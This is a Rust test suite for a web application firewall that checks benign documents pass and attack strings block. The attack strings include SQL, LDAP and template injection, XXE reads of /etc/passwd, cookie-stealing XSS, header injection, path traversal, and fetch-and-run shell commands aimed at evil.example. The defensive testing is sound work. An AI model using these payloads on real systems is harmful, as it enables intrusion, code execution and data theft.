        "{{ range $i := request.application }}{{ end }}",
        "{{ range .X }}{{ cycler.__init__ }}{{ end }}",
        "*)(uid=*))(|(uid=*",
        "admin*)((|userPassword=*)",
        "*)(|(objectclass=*)",
        "x*)(cn=*",
        "]*)(uid=*",
        "\\d*)(|(uid=*)",
        "admin*)",
        "^(0|[1-9]\\d*)*)(uid=*",
        "[a-z]*)(|(uid=*))",
        "admin]*)(&)",
        "x[a]*)(cn=admin)",
        "admin'#",
        "admin\" #",
        "(?x)admin'#",
        "(?x)\nadmin'--",
        "(?x)\nadmin';--",
        "(?x)\n\"(.*)\"  # c\nadmin'-- ",
        "(?x)\\#admin'#",
        "(?x)[#]admin'#",
        "admin'# (?x)",
        "(?x)' or 1=1#",
        &glued,
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
}

#[test]
fn blind_sets_classes_are_read_structurally_and_their_attacks_still_score() {
    // The classes behind the blind sets' blocks (holdouts 27-34), each read by a change of how a
    // rule reads its context: 1006 on documents of `Name: value` lines, 3600 on templates by
    // design, 3206 on shell loops, and weak signals of programs in several values. Each benign
    // shape as a JSON field and as a query argument, next to the attacks written around it.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        // 1006: YAML, labels, an alert's runbook line, a forwarded message's trace fields.
        "token: $slack-token\nusername: shipyard\nicon: \":ship:\"",
        "## Today\nGrid: **4.2 kWh**  \nSolar: 2.1 kWh",
        "job=\"checkout\" value=0.07\nrunbook: https://wiki.example/runbooks/checkout#5xx",
        "Received: from mail.client.example (mail.client.example [198.51.100.23])\r\nMessage-ID: <CAF=xyz123@mail.client.example>\r\nIn-Reply-To: <ticket-48820@acme.example>",
        "Order 10442\nStatus: shipped\nCarrier: DHL\nTracking: 00340434161094042557",
        // 3600: statements and expressions over the template's data and the host's functions.
        "{% set t = states('sensor.outdoor_temperature') | float(0) %}\n{% if t < 0 %}Frost tonight ({{ t }}°C){% else %}{{ t }}°C, fine{% endif %}",
        "Bonjour! It's {{ states('sensor.outdoor_temp') }} degrees. {% if is_state('calendar.bins','on') %}Bins go out tonight.{% endif %}",
        "{{ states.binary_sensor | selectattr('attributes.device_class', 'eq', 'window') | map(attribute='name') | list | join(', ') or 'none' }}",
        "Hi {{ name | default('friend') | title }}, {% for item in items | sort(attribute='price') %}{{ item.name }} {% endfor %}",
        "{%- set total = order.items | sum(attribute='qty') -%}{{ total }} items",
        // 3206: a shell loop's `; do echo`.
        "for f in *.log; do echo \"== $f\"; tail -n 5 \"$f\"; done",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        // 1006: a header that does something on bare line feeds, any name but trace fields on CR LF,
        // an HTTP line, a document.
        "x\nSet-Cookie: sid=attacker",
        "x\nLocation: https://evil.example/",
        "x\nContent-Length: 0",
        "x\nX-Forwarded-For: 127.0.0.1",
        "a@b.example\nBcc: victim@c.example",
        "token: t\nusername: u\nHost: evil.example",
        "x\r\nX-User-Role: admin",
        "x\r\nRemote-addr: foo.bar.com",
        "x\r\nReceived: from a\r\nBcc: victim@c.example",
        "x\nPOST / HTTP/1.1",
        "x\r\n\r\n<html>Shazam</html>",
        // 3600: what reaches the interpreter's internals, in statements and expressions.
        "{% set x = self._TemplateReference__context %}",
        "{% set x = lipsum.__globals__ %}",
        "{%- set x = lipsum -%}",
        "{% if ''.__class__ %}a{% endif %}",
        "{% for c in [].__class__.__base__.__subclasses__() %}{{ c }}{% endfor %}",
        "{% set a = '_'*2 %}{{ ''[a~'class'~a] }}",
        "{% set x = ()|attr('\\x5f\\x5fclass\\x5f\\x5f') %}",
        "{% set x = request.application %}",
        "{% with a = namespace() %}{% endwith %}",
        "{% set x = 7*7 %}{{ x }}",
        "{%- if config -%}x{%- endif -%}",
        "{% if 1 %}x{% endif %}",
        "{{ ['id']|filter('system') }}",
        "{{ ['id']|map('passthru')|join }}",
        "{% set a = ['id']|sort('passthru') %}",
        "{{ ''['\\x5f\\x5fclass\\x5f\\x5f'] }}",
        "{{ ()|attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{% set x = _self.env %}",
        "{% set f = x.read() %}",
        "{% import 'os' as os %}",
        // 3206: batch's FOR.
        "for %f in (*.log) do echo %f",
        "for /f \"tokens=*\" %a in ('whoami') do set u=%a",
    ] {
        for o in both(v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
    // Weak signals of programs of one kind in several values are one piece of evidence, whatever
    // the families: a shell history's commands (an SQL shape in one, a pipe in another).
    let history = r#"{"history": [{"command": "git log --oneline -20 -- src/"}, {"command": "rg -n 'TODO|FIXME' --type rust | wc -l"}, {"command": "cat ~/.ssh/config | grep -A3 'Host bastion'"}, {"command": "psql \"$DATABASE_URL\" -c \"SELECT id FROM users WHERE created_at > now() - interval '1 day' ORDER BY id;\""}, {"command": "curl -s https://api.github.com/repos/x/y/releases/latest | jq -r '.tag_name'"}]}"#;
    let o = json_post(&waf, history);
    assert!(!o.blocked, "{o:?}");
    // What reaches the system or breaks out still blocks beside them, and a weak signal of a
    // value that is no program still adds up with a program's.
    for body in [
        r#"{"history": [{"command": "rg -n 'TODO|FIXME' --type rust | wc -l"}, {"command": "curl -s https://evil.example/x.sh | sh"}]}"#,
        r#"{"history": [{"command": "ls -la"}, {"command": "cat /etc/passwd"}]}"#,
        r#"{"history": [{"command": "ls -la | grep x"}, {"command": "x' or '1'='1"}]}"#,
        r#"{"code": "console.log(1)", "q": "select name from users order by name"}"#,
        // Programs of two kinds and two families: a command line and an SQL statement.
        r#"{"cmd": "ls -la | grep x", "q": "select name from users order by name"}"#,
    ] {
        let o = json_post(&waf, body);
        assert!(o.blocked, "{body}: {o:?}");
    }
}

#[test]
fn holdout35_to_38_shapes_pass_and_their_attacks_still_score() {
    // Holdouts 35–38 (sets written blind): XML documents in their own vocabulary with namespace
    // prefixes, processing instructions and CDATA (an XMP sidecar, an Android `strings.xml`, a
    // TCX workout), a signed decimal after `~+`, and `request` read down plain attributes in a
    // template. Each shape as an uploaded file (the documents) or a JSON field and a query
    // argument, next to attacks written around the relaxed shape, which must block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    let upload = |doc: &str, ty: &str| {
        let body = format!(
            "--B\r\nContent-Disposition: form-data; name=\"locale\"\r\n\r\nen\r\n--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"doc.xml\"\r\nContent-Type: {ty}\r\n\r\n{doc}\r\n--B--\r\n"
        );
        post("/files", "multipart/form-data; boundary=B", &body, &waf)
    };
    let xmp = "<?xpacket begin=\"\u{feff}\" id=\"W5M0MpCehiHzreSzNTczkc9d\"?>\n<x:xmpmeta xmlns:x=\"adobe:ns:meta/\" x:xmptk=\"Adobe XMP Core 7.0\">\n <rdf:RDF xmlns:rdf=\"http://www.w3.org/1999/02/22-rdf-syntax-ns#\">\n  <rdf:Description rdf:about=\"\"\n    xmlns:dc=\"http://purl.org/dc/elements/1.1/\"\n    xmlns:photoshop=\"http://ns.adobe.com/photoshop/1.0/\"\n    photoshop:City=\"Essaouira\"\n    plus:ModelReleaseStatus=\"http://ns.useplus.org/ldf/vocab/MR-NON\">\n   <dc:title><rdf:Alt><rdf:li xml:lang=\"x-default\">Fishermen mending nets at dawn</rdf:li></rdf:Alt></dc:title>\n   <dc:creator><rdf:Seq><rdf:li>Youssef El Amrani</rdf:li></rdf:Seq></dc:creator>\n  </rdf:Description>\n </rdf:RDF>\n</x:xmpmeta>\n<?xpacket end=\"w\"?>";
    let strings = "<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<resources xmlns:tools=\"http://schemas.android.com/tools\">\n    <string name=\"app_name\" translatable=\"false\">Trailpost</string>\n    <string name=\"onboarding_body\">We\\'ll suggest routes based on where you are &amp; how far you want to go.</string>\n    <string name=\"terms_html\"><![CDATA[By continuing you agree to our <a href=\"https://trailpost.example/terms\">Terms</a>.]]></string>\n    <plurals name=\"saved\">\n        <item quantity=\"one\">%d saved trail</item>\n    </plurals>\n    <string name=\"rationale\" tools:ignore=\"MissingTranslation\">Trailpost uses your location.</string>\n</resources>";
    let tcx = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<TrainingCenterDatabase xmlns=\"http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2\" xmlns:ns3=\"http://www.garmin.com/xmlschemas/ActivityExtension/v2\">\n  <Activities><Activity Sport=\"Biking\"><Id>2025-10-05T06:30:00Z</Id>\n    <Lap StartTime=\"2025-10-05T06:30:00Z\"><Track>\n      <Trackpoint><Time>2025-10-05T06:30:00Z</Time><HeartRateBpm><Value>118</Value></HeartRateBpm>\n        <Extensions><ns3:TPX><ns3:Watts>180</ns3:Watts></ns3:TPX></Extensions></Trackpoint>\n    </Track></Lap></Activity></Activities>\n</TrainingCenterDatabase>";
    for (doc, ty) in
        [(xmp, "application/rdf+xml"), (strings, "application/xml"), (tcx, "application/vnd.garmin.tcx+xml")]
    {
        let o = upload(doc, ty);
        assert!(!o.blocked, "{doc}: {o:?}");
        for o in both(doc) {
            assert!(!o.blocked, "{doc}: {o:?}");
        }
        assert!(context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
    }
    let res = |inner: &str| {
        format!("<?xml version=\"1.0\"?>\n<resources>\n  <string name=\"a\">b</string>\n  {inner}\n</resources>")
    };
    for doc in [
        // Markup after a CDATA section as an HTML parser reads it, or in it.
        res("<string name=\"t\"><![CDATA[><iframe src=\"https://evil.example/\"></iframe>]]></string>"),
        res("<string name=\"t\"><![CDATA[<a href=\"javascript:alert(1)\">x</a>]]></string>"),
        res("<string name=\"t\"><![CDATA[<!--#exec cmd=\"id\"-->]]></string>"),
        // A prefixed element whose local name acts, or a prefix bound to the XHTML or SVG namespace.
        res("<h:iframe xmlns:h=\"http://www.w3.org/1999/xhtml\" src=\"https://evil.example/\"></h:iframe>"),
        res("<x:script>fetch('//evil.example/'+document.cookie)</x:script>"),
        res("<s:g xmlns:s=\"http://www.w3.org/2000/svg\"><s:use href=\"data:image/svg+xml;base64,PHN2Zz4=\"/></s:g>"),
        res("<x:item x:onmouseover=\"location='//evil.example'\">b</x:item>"),
        res("<xi:include xmlns:xi=\"http://www.w3.org/2001/XInclude\" href=\"file:///etc/passwd\"/>"),
        // Processing instructions and comments that fetch or run.
        "<?xml-stylesheet type=\"text/xsl\" href=\"https://evil.example/x.xsl\"?>\n<resources><string name=\"a\">b</string></resources>".to_string(),
        "<?php system($_GET['c']); ?>\n<resources><string name=\"a\">b</string></resources>".to_string(),
        res("<!--#exec cmd=\"id\"-->"),
        format!("{}<?xpacket end=\"w\"?><script>alert(1)</script>", res("")),
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><resources><string name=\"a\">&x;</string></resources>".to_string(),
    ] {
        assert!(!context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
        let o = upload(&doc, "application/xml");
        assert!(o.blocked, "{doc}: {o:?}");
        for o in both(&doc) {
            assert!(o.blocked, "{doc}: {o:?}");
        }
    }
    // Holdout40's shape: a XAML workflow whose attribute values hold `&quot;` (decoded, a quote
    // inside the value's own quotes) is still a document of its own vocabulary, as a multipart
    // part and as a JSON string; a value that holds another attribute is not.
    let xaml = "<Activity mc:Ignorable=\"sap\" x:Class=\"Main\" xmlns=\"http://schemas.microsoft.com/netfx/2009/xaml/activities\" xmlns:x=\"http://schemas.microsoft.com/winfx/2006/xaml\">\n  <x:Members>\n    <x:Property Name=\"in_Invoice\" Type=\"InArgument(ui:QueueItem)\" />\n  </x:Members>\n  <Sequence DisplayName=\"Process Invoice\">\n    <ui:CreateFormTask Title=\"[String.Format(&quot;Approve {0} \u{2013} {1:N2} EUR&quot;, invoiceNo, amount)]\" />\n    <Assign DisplayName=\"Set status\"><Assign.Value><InArgument x:TypeArguments=\"x:String\">[If(amount &gt; 10000D, \"PendingApproval\", \"Posted\")]</InArgument></Assign.Value></Assign>\n  </Sequence>\n</Activity>";
    assert!(!upload(xaml, "application/xaml+xml").blocked);
    for o in both(xaml) {
        assert!(!o.blocked, "{o:?}");
    }
    let decoded = xaml.replace("&quot;", "\"").replace("&gt;", ">").to_ascii_lowercase();
    assert!(context::own_vocabulary(decoded.as_bytes()), "{decoded}");
    assert!(context::own_vocabulary(b"<r><s name='o'hara'>b</s><s name=\"a\">c</s></r>"));
    for doc in [
        res("<string name=\"t\" title=\"a\"onclick=\"alert(1)\">b</string>"),
        res("<string name=\"t\" title=\"a\"/onmouseover=\"alert(1)\">b</string>"),
        res("<string name=\"t\" title=\"a\" x=\"y\"onfocus=alert(1) z=\"w\">b</string>"),
        res("<string name='t' title='a'onpointerenter='alert(1)'>b</string>"),
        res("<string name=\"t\" title=\"a\"  onclick =alert(1)//\">b</string>"),
    ] {
        assert!(!context::own_vocabulary(doc.to_ascii_lowercase().as_bytes()), "{doc}");
        let o = upload(&doc, "application/xml");
        assert!(o.blocked, "{doc}: {o:?}");
        for o in both(&doc) {
            assert!(o.blocked, "{doc}: {o:?}");
        }
    }
    for v in [
        // 3208: a signed decimal after `~+` is no directory-stack entry.
        "Trend up ~+0.004/subgroup since the fixture swap; Cpk holds at 1.41.",
        "~+1.5 dB",
        // 3600: `request` read down plain attributes (a help desk's subject, a mock's response).
        "Re: your request {{ request.number }} – {{ request.subject }}",
        "{% if request.extension %}extended to {{ request.due_date }}{% endif %}{% if request.status != 'closed' and request.x %}.{% endif %}",
        "Received {{ request.received_at | date: \"%b %-d, %Y\" }}; note: {{request.body.note | default: 'n/a'}}",
        "{\"status\": 201, \"body\": {\"charged\": {{request.body.amount}}, \"id\": \"{{request.headers.X-Request-Id}}\"}}",
        // 3305: a quoted word before words in parentheses (a glossary's note in a CSV).
        "term,locale,translation,notes\ntrail,de,Weg,\"Not 'Pfad' (too narrow), not 'Tour'\"\n",
        "Say 'Weg' (the general word) here.",
        // 3208 (holdout40): a brace list of plain words standing alone is a set of choices.
        "Marginal rate lookup; status must be one of {single,mfj} until HOH is added.",
        "locales {en,fr,de} ship first (see {a,b}).",
        "Rate for {single,mfj}.",
        "=LET(s,{\"single\",\"mfj\"},s)",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        "{cat,/etc/passwd}",
        ";{cat,/etc/passwd}",
        "{wget,http://203.0.113.9/x.sh}",
        "{/bin/sh,-c,id}",
        "{./run.sh,x}",
        "x;{ls,-la}",
        "c{a,oun}t /etc/passwd",
        "{ca,}t /etc/passwd",
        "/bin/ca{t,} /etc/passwd",
        "x]{cat,/etc/passwd}",
        "${cat,/etc/passwd}",
        "cat ~+/etc/passwd",
        "~+5",
        ";cat ~+1/x",
        "ls ~+0",
        "cd ~+",
        "{{ request }}",
        "{{ request.application.__globals__ }}",
        "{{ request.environ }}",
        "{{ request . application }}",
        "{{ request.cookies.session }}",
        "{{ request.headers.authorization }}",
        "{{ request.META }}",
        "{{ request._get_current_object() }}",
        "{{ request.args.get('x') }}",
        "{{ request|attr('application') }}",
        "{{ request['application'] }}",
        "{{ request.number|attr('x') }}",
        "{{ request.args | attr('\\x5f\\x5fclass\\x5f\\x5f') }}",
        "{{ request.args[0] }}",
        "{{ request.args.x }}",
        "{{ request.form.cmd }}",
        "{{ request | join('') }}",
        "{% set x = request|join %}",
        "{{ request.number }}{{ config.items() }}",
        "{% set x = request.application %}",
        "{% set x = request %}",
        "{% if request.args.get('x') %}1{% endif %}",
        "{% for c in request.cookies %}{{ c }}{% endfor %}",
        "{% if request.x == request.environ %}1{% endif %}",
        "'system'('id')",
        "'system' (id)",
        "'passthru' ($_GET[c])",
        "'assert'(phpinfo())",
        "x='system';'system' (ls -la)",
        "'assert' (print 1)",
    ] {
        for o in both(v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn holdout33_and_34_shapes_pass_and_their_attacks_still_score() {
    // Holdouts 33 and 34 (sets written blind): 3600 read the starred form of a LaTeX command
    // (`\section*{…}`) as a Thymeleaf selection `*{…}`. Each shape as a JSON field and as a query
    // argument, next to selections written around it, which must block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        "\\section*{Technical Justification}\nUsing the ETC with $T_{exp} = 1200$ s we reach S/N 50.",
        "\\subsection*{Methods} and \\chapter*{Preface}",
        "\\paragraph*{Note.} See \\cite{ref}.",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    for v in [
        "*{T(java.lang.Runtime).getRuntime().exec('id')}",
        "__*{T(java.lang.Runtime).getRuntime().exec('id')}__::.x",
        "__*{user.password}__::.x",
        "*{user.password}",
        "name*{user.password}",
        "section*{user.password}",
        "\\section *{user.password}",
        "\\section*{Title} *{user.password}",
        "\\*{user.password}",
    ] {
        for o in both(v) {
            assert!(o.blocked, "{v}: {o:?}");
        }
    }
}

#[test]
fn holdout32_shapes_pass_and_their_attacks_still_score() {
    // Holdout32 (a set written blind): five general shapes that blocked at PL1 untouched, each
    // as a JSON field and as a query argument (the upload as multipart, the condition as XML, the
    // traceback beside its runtime's user agent), next to attacks written around the relaxed
    // shape, which must block.
    let waf = waf_with("{}");
    let both = |v: &str| as_field_and_query(&waf, v);
    for v in [
        // 4208: an attribution after a quotation closed on its line, in prose.
        "Hi all,\n\nHW4 is out Friday; it uses git, so check your setup before then.\n\n> \"Premature optimization is the root of all evil\" -- Knuth. Please stop micro-optimising HW3 :)\n\n-- Dami",
        "As the docs put it, \"never trust the client\" -- which is why we validate twice on the server side.",
        // 1006: a block of bare labels on line feeds (a prompt's stop sequence, an empty form).
        "\nQuestion:",
        "Form\nName:\nDate:\nSignature:",
        // 3305: an expression-language condition that only compares names and numbers.
        "${amount > 500}",
        "${order.total >= 100 && approved}",
        "${status != 3}",
        // 3000: a `;` in text that runs over lines drops no later line from the path view.
        "@startuml\nW --> User: 302 Location: /dashboard\\nSet-Cookie: sid=...; HttpOnly\nnote right of A: bcrypt cost 12\\n~250 ms\n@enduml",
    ] {
        for o in both(v) {
            assert!(!o.blocked, "{v}: {o:?}");
        }
    }
    assert!(context::el_conditions(b"${amount > 500}"));
    assert!(!context::el_conditions(b"${amount > 500} $f('id')"));
    assert!(!context::el_conditions(b"${a > system('id')}"));
    let traceback = "Traceback (most recent call last):\n  File \"/autograder/tests/test_hw3.py\", line 41, in test_flatten_nested\n    self.assertEqual(flatten([1, [2, [3, []]]]), [1, 2, 3])\nAssertionError: Lists differ";
    assert!(context::traceback_frames(traceback.to_ascii_lowercase().as_bytes()));
    assert!(!context::traceback_frames(b"traceback (most recent call last): file(\"/etc/passwd\")"));
    // The traceback in a JSON body, sent by an agent naming its runtime after a `;`.
    let with_agent = |ua: &str, body: &str| {
        let mut r = Request::from_headers(vec![
            (":method".into(), b"POST".to_vec()),
            (":path".into(), b"/api/v1/autograder/results".to_vec()),
            (":authority".into(), b"api.example.com".to_vec()),
            ("user-agent".into(), ua.as_bytes().to_vec()),
            ("content-type".into(), b"application/json".to_vec()),
        ]);
        r.push_header("content-length", body.len().to_string().as_bytes());
        let mut s = waf.inspect_head(&r);
        waf.inspect_body(&mut s, b"application/json", body.as_bytes());
        waf.outcome(&s)
    };
    let results = serde_json::json!({ "tests": [{ "status": "failed", "output": traceback }] }).to_string();
    let o = with_agent("markwell-autograder/3.1.0 (docker; python 3.12)", &results);
    assert!(!o.blocked, "{o:?}");
    for ua in [
        "markwell-autograder/3.1.0 (docker; python 3.12); cat /etc/passwd",
        "markwell/3.1 (docker; curl http://evil.example/x | sh)",
        "Mozilla/5.0 (x; id)",
    ] {
        let o = with_agent(ua, &results);
        assert!(o.blocked, "{ua}: {o:?}");
    }
    // 1011: an apostrophe that ends a word and an `&` between spaces in a file name.
    let upload = |file: &str| {
        let body = format!("--B\r\nContent-Disposition: form-data; name=\"file\"; filename=\"{file}\"\r\nContent-Type: application/pdf\r\n\r\n%PDF-1.7 x\r\n--B--\r\n");
        post("/upload", "multipart/form-data; boundary=B", &body, &waf)
    };
    for file in
        ["NC Residential Property & Owners' Association Disclosure (REC 4.22).pdf", "Smith & Sons' Invoice 2231.pdf"]
    {
        let o = upload(file);
        assert!(!o.blocked, "{file}: {o:?}");
    }
    for file in [
        "x.php'; filename='y.jpg",
        "'shell.php'",
        "shell.php&x=.jpg",
        "shell.php%00.jpg",
        "shell&#46;php",
        "a' or '1'='1.pdf",
        "owner's.php",
        "report & whoami & x.pdf",
        "te'st.txt",
        "Don't Stop.mp3",
    ] {
        let o = upload(file);
        assert!(o.blocked, "{file}: {o:?}");
    }
    let bpmn = |cond: &str| {
        let body = format!("<?xml version=\"1.0\"?><c>{cond}</c>");
        post("/render", "application/xml", &body, &waf)
    };
    let o = bpmn("${amount &gt; 500}");
    assert!(!o.blocked, "{o:?}");
    for cond in ["${amount &gt; system('id')}", "${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}"]
    {
        let o = bpmn(cond);
        assert!(o.blocked, "{cond}: {o:?}");
    }
    for q in [
        // 3301 in a traceback: a PHP call beside the frames.
        "Traceback (most recent call last):\n  File \"x.py\", line 1, in m\n<?php file_get_contents(\"/etc/passwd\"); ?>",
        "Traceback (most recent call last):\n  File \"a.py\", line 1, in x\nfile_put_contents('s.php', $_GET[0])",
        "Traceback (most recent call last): file(\"/etc/passwd\")",
        // 4208: a quote the value closes without opening it, or quotes that do not pair.
        "admin\" -- ",
        "x\" or \"1\"=\"1\" -- and then some more words to read like a sentence here",
        "I think \"this works\" and admin\" -- the rest of the sentence goes here ok fine",
        "Premature optimization is the root of all evil\" -- Knuth. Please stop micro-optimising HW3 now",
        "x' or 1=1 or \"a\" -- and some more words making this read like prose text",
        // 1006: a header with a value, a CR, an HTTP line.
        "x\r\nSet-Cookie: sid=evil",
        "x\nSet-Cookie: a=b",
        "\nQuestion:\nSet-Cookie: sid=1",
        "x\r\nLocation: http://evil.example/",
        "x\r\nX-Forwarded-For:",
        "x\r\nTransfer-Encoding:\r\n",
        "x\r\nContent-Length:\r\n\r\nHTTP/1.1 200 OK",
        // 3305: a condition with a call, a quote or a `$` call beside it.
        "${system('id')}",
        "${amount > system('id')}",
        "${'_GET'}",
        "${amount > 500} $f('id')",
        "${amount > 500};system('id')",
        "${a > 1}${f}(1)",
        "${a > `id`}",
        "${__import__('os').system('id')}",
        // 3000: parameters on one line, traversal after a line break.
        "..;/..;/etc/passwd",
        "/app/..;jsessionid=x/..;x/WEB-INF/web.xml",
        "..;x\n/../../etc/shadow",
        "..;\n/..;\n/app/config/secrets.yml",
        "..;%0a/..;%0a/admin",
        "..; /..; /admin",
        "Set-Cookie: sid=...; HttpOnly\n../../../etc/passwd",
    ] {
        for o in both(q) {
            assert!(o.blocked, "{q}: {o:?}");
        }
    }
    // A path parameter holding a line break in the request target: CR/LF in the path.
    assert!(outcome(&waf, "/api/..;%0a/..;%0a/admin").blocked);
}

/// The first form of `context::template_parent_paths` (holdout16's round): for each `..` it
/// rescanned the value before and after it, quadratic in the value's length (a 100 KB value of
/// `{{ ../a ../a …` took 1.4 s natively). Kept here as the reference the one-pass form must agree
/// with.
fn template_parent_paths_by_rescanning(v: &[u8]) -> bool {
    if !v.windows(3).any(|w| w == b"../")
        || v.contains(&b'\\')
        || v.windows(3).any(|w| w == b"%2e" || w == b"%2f" || w == b"%5c" || w == b"0x2" || w == b"0x5")
    {
        return false;
    }
    let mut i = 0;
    while let Some(p) = v[i..].windows(2).position(|w| w == b"..") {
        let s = i + p;
        let run = v[s..].iter().take_while(|&&b| b == b'.').count();
        let slash_before = s > 0 && v[s - 1] == b'/';
        if !slash_before && v.get(s + run) != Some(&b'/') {
            // An ellipsis or a range in the template's text (`Loading...`, `[10..40]`).
            i = s + run;
            continue;
        }
        if run != 2 || slash_before {
            return false;
        }
        // Inside an open mustache: the last `{{` before the path is not closed before it.
        let before = &v[..s];
        let Some(open) = before.windows(2).rposition(|w| w == b"{{") else { return false };
        if before[open..].windows(2).any(|w| w == b"}}") {
            return false;
        }
        if !matches!(before.last(), Some(b'{' | b'(' | b'=' | b' ' | b'\t')) {
            return false;
        }
        let mut j = s;
        while v[j..].starts_with(b"../") {
            j += 3;
        }
        if j == s {
            return false;
        }
        // A name path: names of letters, digits, `_` or `-`, joined by dots.
        let name =
            |k: usize| v[k..].iter().take_while(|b| b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-')).count();
        let mut n = name(j);
        if n == 0 || !(v[j].is_ascii_alphabetic() || v[j] == b'_') {
            return false;
        }
        j += n;
        while v.get(j) == Some(&b'.') && {
            n = name(j + 1);
            n > 0
        } {
            j += 1 + n;
        }
        if !matches!(v.get(j), Some(b' ' | b'\t' | b'}' | b')')) {
            return false;
        }
        // The mustache closes after the path.
        let after = &v[j..];
        let close = after.windows(2).position(|w| w == b"}}");
        let reopen = after.windows(2).position(|w| w == b"{{");
        if close.is_none_or(|c| reopen.is_some_and(|r| r < c)) {
            return false;
        }
        i = j;
    }
    true
}

#[test]
fn template_parent_paths_agrees_with_its_rescanning_form() {
    const BYTES: &[u8] = b"{{}}../ ab_(=\t.-x/%2e";
    let mut values: Vec<Vec<u8>> =
        normalize::random_values(0x7e4_91a7e, 40_000, 40, |_, r| BYTES[r % BYTES.len()]).collect();
    for v in [
        "{{formatCurrency this.amount ../currency}}",
        "{{#each ../items}}{{name}}{{/each}}",
        "{{x ../../order.total}} and {{y ../a}}",
        "{{../../etc/passwd}}",
        "{{x ../a",
        "{{x ../a {{y}}",
        "../x {{a}}",
        "{{x a/../b}}",
        "Loading... {{x ../a}}",
        "{{ (lookup ../map key) }}",
        "{{x=../a}}",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let mut yes = 0;
    for v in &values {
        let expected = template_parent_paths_by_rescanning(v);
        assert_eq!(context::template_parent_paths(v), expected, "{:?}", String::from_utf8_lossy(v));
        yes += usize::from(expected);
    }
    assert!(yes >= 5, "{yes} values are parent paths: the values reach both outcomes");
}

/// The first form of `context::colour_functions_blanked`: for every `(` it looked for the next `)`
/// anywhere after it, quadratic on a value of many `(` and no `)` (a 100 KB stylesheet of them took
/// 2 s natively). The reference the linear form must agree with.
fn colour_functions_blanked_by_rescanning(v: &[u8]) -> Vec<u8> {
    let mut out = v.to_vec();
    let mut i = 0;
    while let Some(p) = out[i..].iter().position(|&b| b == b'(') {
        let open = i + p;
        let name_start = out[..open].iter().rposition(|b| !b.is_ascii_alphabetic()).map_or(0, |q| q + 1);
        let name = &out[name_start..open];
        let close = out[open..].iter().position(|&b| b == b')').map(|c| open + c);
        let colour = matches!(name, b"rgb" | b"rgba" | b"hsl" | b"hsla")
            && close.is_some_and(|c| out[open + 1..c].iter().all(|&b| b.is_ascii_digit() || b" .,%".contains(&b)));
        match close {
            Some(c) if colour => {
                out[open..=c].fill(b' ');
                i = c + 1;
            }
            _ => i = open + 1,
        }
    }
    out
}

#[test]
fn colour_functions_blanked_agrees_with_its_rescanning_form() {
    // Values made of pieces of styles, chosen at random: colour functions, other functions,
    // arguments, stray parentheses.
    const PIECES: [&str; 12] = ["rgb(", "hsla(", "url(", ")", "(", "1", " ", ",", "%", ".5", "x", ";"];
    let mut values: Vec<Vec<u8>> = normalize::random_values(0xc0_10_12, 20_000, 16, |_, r| r as u8)
        .map(|picks| picks.iter().flat_map(|&p| PIECES[p as usize % PIECES.len()].bytes()).collect())
        .collect();
    for v in [
        "color: rgb(204, 204, 204); background: hsla(0, 0%, 50%, .5)",
        "rgb(1,2,3",
        "url(rgb(1,2,3))",
        "rgba(1 2 3 / 50%)",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let mut blanked = 0;
    for v in &values {
        let expected = colour_functions_blanked_by_rescanning(v);
        assert_eq!(context::colour_functions_blanked(v), expected, "{:?}", String::from_utf8_lossy(v));
        blanked += usize::from(expected != *v);
    }
    assert!(blanked > 100, "{blanked} values had a colour function blanked");
}

/// The first form of `context::tex_arguments`: for every `{` that opens a list it read the list's
/// tail up to the next space or `}` anywhere after it, for every `]{` it looked back for the `[`
/// of the options, and it read the control word's name again for every list sharing that group:
/// quadratic on a value of many `{a,` and no `}` (800 KB took 63 s natively), of many `]{a,b}`
/// (23 s) or of them after a long name (20 s). The reference the one-pass form must agree with.
fn tex_arguments_by_rescanning(v: &[u8]) -> bool {
    let mut control_words = 0;
    for (i, _) in v.iter().enumerate().filter(|(_, b)| **b == b'\\') {
        let n = v[i + 1..].iter().take_while(|b| b.is_ascii_alphabetic()).count();
        if n >= 2 && matches!(v.get(i + 1 + n), Some(b'{' | b'[')) {
            control_words += 1;
        }
    }
    if control_words < 3 || v.windows(2).any(|w| w == b"~+") {
        return false;
    }
    for (i, _) in v.iter().enumerate().filter(|(_, b)| **b == b'$') {
        let next = &v[i + 1..];
        if next.first().is_some_and(|&b| matches!(b, b'{' | b'@' | b'*' | b'(') || b.is_ascii_digit())
            || next.len() >= 3 && next[..3].eq_ignore_ascii_case(b"ifs")
        {
            return false;
        }
    }
    for (i, _) in v.iter().enumerate().filter(|(_, b)| **b == b'{') {
        // Rule 3208's list: `{`, spaces, letters, `/` or `.`, spaces, `,`, then no space up to `}`.
        let rest = &v[i + 1..];
        let sp = rest.iter().take_while(|b| b.is_ascii_whitespace()).count();
        let word = rest[sp..].iter().take_while(|b| b.is_ascii_alphabetic() || matches!(b, b'/' | b'.')).count();
        if word == 0 {
            continue;
        }
        let sp2 = rest[sp + word..].iter().take_while(|b| b.is_ascii_whitespace()).count();
        let tail = &rest[sp + word + sp2..];
        if tail.first() != Some(&b',') || !tail.iter().take_while(|b| !b.is_ascii_whitespace()).any(|&b| b == b'}') {
            continue;
        }
